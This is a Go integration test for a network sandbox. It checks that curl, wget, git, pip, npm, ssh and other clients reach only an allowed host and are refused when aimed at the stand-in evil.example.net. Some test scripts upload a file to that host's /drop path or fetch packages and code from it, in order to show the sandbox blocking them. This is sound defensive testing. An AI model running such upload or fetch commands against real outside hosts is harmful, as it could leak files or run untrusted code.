//go:build root

package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"clove.run/clove/internal/testhost"
)

// clients are common programs, each with a script that reaches $SITE and prints the word
// reached. All but the first are installed by install.sh.
var clients = []struct {
	name   string
	script string
	vm     bool // the virtual machine has it too
	heavy  bool // hundreds of Debian packages: used only where it is installed
}{
	{name: "python3", vm: true, script: `python3 -c 'import http.client, sys
c = http.client.HTTPConnection(sys.argv[1], timeout=5); c.request("GET", "/"); print(c.getresponse().read().decode())' $SITE`},
	{name: "curl", script: "curl -sS -m 5 http://$SITE/ && curl -sS -m 5 --cacert /ca/ca.pem https://$SITE/"},
	{name: "curl", script: "curl -sS -m 5 --http1.1 --cacert /ca/ca.pem -T /ca/ca.pem https://$SITE/drop"},
	{name: "wget", script: "wget -q -t 1 -T 5 -O - --ca-certificate=/ca/ca.pem https://$SITE/"},
	{name: "git", script: "GIT_SSL_CAINFO=/ca/ca.pem git clone -q https://$SITE/git/demo.git /tmp/demo && cat /tmp/demo/README; s=$?; rm -rf /tmp/demo; exit $s"},
	{name: "openssl", script: `printf 'GET / HTTP/1.0\r\nHost: %s\r\n\r\n' $SITE |
openssl s_client -quiet -verify_quiet -verify_return_error -CAfile /ca/ca.pem -servername $SITE -connect $SITE:443 -ign_eof`},
	{name: "ssh", script: "ssh -v -F /dev/null -o ConnectTimeout=5 -o BatchMode=yes -p 22 nobody@$SITE true </dev/null 2>&1 | grep 'remote software version'"},
	{name: "psql", script: "psql -At -c 'select word' 'host='$SITE' user=agent dbname=agent connect_timeout=5'"},
	{name: "pip3", script: `python3 -m pip install -q --disable-pip-version-check --no-cache-dir --retries 0 --timeout 5 --cert /ca/ca.pem --target /tmp/pip \
--index-url https://$SITE/simple/ demo && PYTHONPATH=/tmp/pip python3 -c 'import demo'; s=$?; rm -rf /tmp/pip; exit $s`},
	{name: "node", script: `NODE_EXTRA_CA_CERTS=/ca/ca.pem node -e 'require("https").get("https://" + process.argv[1] + "/", r => r.pipe(process.stdout))
.on("error", e => { console.error(e.code); process.exit(1) })' $SITE`},
	{name: "npm", heavy: true, script: `mkdir -p /tmp/npm && cd /tmp/npm && npm install --silent --no-audit --no-fund --no-update-notifier --fetch-retries=0 \
--cache /tmp/npm/cache --cafile /ca/ca.pem --registry https://$SITE/npm/ demo && cat node_modules/demo/index.js; s=$?; rm -rf /tmp/npm; exit $s`},
}

// TestClientsOfAllKinds: each reaches what is allowed, without proxy settings, and nothing
// else. The control: without a sandbox each reaches both hosts.
func TestClientsOfAllKinds(t *testing.T) {
	h := newHost(t)
	n := newInternet(t, h)
	n.serveClients(t)
	ca := t.TempDir()
	if err := os.WriteFile(filepath.Join(ca, "ca.pem"), trust().pem, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(ca, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, client := range clients {
		if testhost.Lane() == testhost.LaneVM && !client.vm {
			continue // the image is kept small: clients do not depend on the kernel
		}
		if _, err := exec.LookPath(client.name); err != nil && client.heavy {
			t.Logf("%s is not on this machine, and too heavy to install for a test", client.name)
			continue
		}
		t.Run(client.name, func(t *testing.T) {
			testhost.Tool(t, client.name)
			// The machine's own programs come before those that a version manager has put in
			// PATH.
			script := "export PATH=/usr/bin:/bin HOME=/tmp\n" + client.script
			denied, err := n.outside("sh", "-c", "SITE=evil.example.net\n"+strings.ReplaceAll(script, "/ca/", ca+"/"))
			if err != nil || !strings.Contains(denied, reached) {
				t.Errorf("control: %q, %v", denied, err)
			}
			n.zone.forget()
			c := n.capture(t)
			r := h.agent([]string{"--allow=api.example.com:*", "-v=" + ca + ":/ca:ro"}, "sh", "-c",
				"SITE=api.example.com\n("+script+")\necho =====\nSITE=evil.example.net\n("+script+")")
			allowed, refused, _ := strings.Cut(r.stdout, "=====\n")
			if !strings.Contains(allowed, reached) {
				t.Errorf("allowed: %q\n%s", allowed, r.stderr)
			}
			if strings.Contains(refused, reached) || r.code == 0 {
				t.Errorf("denied: exit %d, %q\n%s", r.code, refused, r.stderr)
			}
			ends := append(asks, siteEnds...)
			for _, port := range []string{"22", "5432"} {
				ends = append(ends, "tcp "+siteAddress+":"+port, "tcp ["+siteAddress6+"]:"+port)
			}
			neverSaid(t, c.onlyTo(ends...), "evil.example.net")
		})
	}
}

// TestProxyVariablesChangeNothing: neither for programs that use them nor for others: a proxy
// is just another address.
func TestProxyVariablesChangeNothing(t *testing.T) {
	h := newHost(t)
	n := newInternet(t, h)
	proxy := "http://" + evilAddress + ":80"
	flags := []string{"--allow=api.example.com", "-e=http_proxy=" + proxy, "-e=HTTP_PROXY=" + proxy, "-e=ALL_PROXY=" + proxy}
	const script = `import sys, socket, urllib.request
def by_socket(host):
    with socket.create_connection((host, 80), 3) as s:
        s.sendall(b"GET / HTTP/1.0\r\nHost: " + host.encode() + b"\r\n\r\n")
        return s.makefile("rb").read()
def by_library(host):
    return urllib.request.urlopen("http://%s/" % host, timeout=3).read()
for way in by_socket, by_library:
    for host in sys.argv[1:]:
        try:
            print(way.__name__, host, b"` + reached + `" in way(host))
        except OSError as e:
            print(way.__name__, host, "refused")
`
	c := n.capture(t)
	r := h.agent(flags, "python3", "-c", script, "api.example.com", "evil.example.net")
	want := "by_socket api.example.com True\nby_socket evil.example.net refused\nby_library api.example.com refused\nby_library evil.example.net refused\n"
	if r.stdout != want {
		t.Errorf("got\n%swant\n%s%s", r.stdout, want, r.stderr)
	}
	c.onlyTo(append(asks, siteEnds...)...)
	out, err := n.outside("env", "http_proxy="+proxy, "/usr/bin/python3", "-c", script, "api.example.com", "evil.example.net")
	if err != nil || strings.Count(out, "True") != 4 {
		t.Errorf("control: %q, %v", out, err)
	}
}
